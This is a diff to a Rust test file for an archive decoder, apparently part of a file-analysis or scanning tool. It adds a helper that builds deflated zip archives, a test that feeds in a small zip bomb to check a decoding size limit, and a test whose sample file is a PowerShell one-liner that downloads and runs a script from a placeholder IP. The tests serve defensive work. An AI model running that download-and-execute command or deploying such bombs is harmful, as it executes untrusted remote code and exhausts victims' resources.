@@ -24,20 +24,32 @@ fn deflate(bytes: &[u8]) -> Vec<u8> {
 
 /// Builds a zip archive with stored members.
 fn stored_zip(members: &[(&str, &[u8])]) -> Vec<u8> {
+    build_zip(members, false)
+}
+
+/// Builds a zip archive whose members are stored or, with `deflated`, compressed.
+fn build_zip(members: &[(&str, &[u8])], deflated: bool) -> Vec<u8> {
     let mut out = Vec::new();
     let mut central = Vec::new();
-    for (name, data) in members {
+    for (name, plain) in members {
         let offset = out.len() as u32;
         let mut crc = flate2::Crc::new();
-        crc.update(data);
+        crc.update(plain);
+        let packed = if deflated {
+            deflate(plain)
+        } else {
+            plain.to_vec()
+        };
+        let data = &packed;
+        let method: u16 = if deflated { 8 } else { 0 };
         let mut header = Vec::new();
         header.extend_from_slice(&20u16.to_le_bytes());
         header.extend_from_slice(&0u16.to_le_bytes());
-        header.extend_from_slice(&0u16.to_le_bytes());
+        header.extend_from_slice(&method.to_le_bytes());
         header.extend_from_slice(&[0; 4]);
         header.extend_from_slice(&crc.sum().to_le_bytes());
         header.extend_from_slice(&(data.len() as u32).to_le_bytes());
-        header.extend_from_slice(&(data.len() as u32).to_le_bytes());
+        header.extend_from_slice(&(plain.len() as u32).to_le_bytes());
         header.extend_from_slice(&(name.len() as u16).to_le_bytes());
         header.extend_from_slice(&0u16.to_le_bytes());
         out.extend_from_slice(b"PK\x03\x04");
@@ -252,4 +264,34 @@ fn truncated_zip_reports_malformed() {
     let report = decode(&archive[..archive.len() - 10]);
     assert!(report.root.children.is_empty());
     assert_eq!(report.limits[0].kind, "malformed");
+}
+
+#[test]
+fn zip_bomb_stops_at_limit() {
+    let zeros = vec![0u8; 4 * 1024 * 1024];
+    let archive = build_zip(&[("a.bin", &zeros), ("b.bin", &zeros)], true);
+    assert!(archive.len() < 20_000, "{}", archive.len());
+    let options = DecodeOptions {
+        max_total_bytes: 1_000_000,
+        ..DecodeOptions::default()
+    };
+    let report = decode_with(&archive, options);
+
+    assert_eq!(report.total_decoded_bytes, 1_000_000);
+    assert_eq!(report.root.children.len(), 1);
+    assert!(report.root.children[0].truncated);
+    assert_eq!(report.root.children[0].size, 1_000_000);
+    assert_eq!(report.limits.len(), 1);
+    assert_eq!(report.limits[0].kind, "max-total-bytes");
+}
+
+#[test]
+fn deflated_zip_member_decoded() {
+    let script = b"Invoke-Expression (iwr http://198.51.100.3/s)";
+    let report = decode(&build_zip(&[("s.ps1", script)], true));
+    assert_eq!(report.root.children[0].name.as_deref(), Some("s.ps1"));
+    assert_eq!(
+        report.root.children[0].text.as_deref().map(str::as_bytes),
+        Some(&script[..])
+    );
 }
